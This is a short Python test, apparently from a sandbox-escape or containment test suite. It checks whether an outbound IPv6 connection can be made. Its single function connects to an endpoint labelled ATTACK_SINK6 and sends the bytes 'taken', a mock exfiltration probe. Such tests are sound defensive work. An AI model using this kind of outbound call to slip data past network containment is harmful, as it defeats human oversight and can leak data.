# class: network
# rule: outbound_connectivity
# success: a connection goes out over IPv6
# proof: sink6
# needs: namespace
import socket

from attack import attempt, endpoint


@attempt
def connect():
    return socket.create_connection(endpoint("ATTACK_SINK6"), 3).send(b"taken") == 5
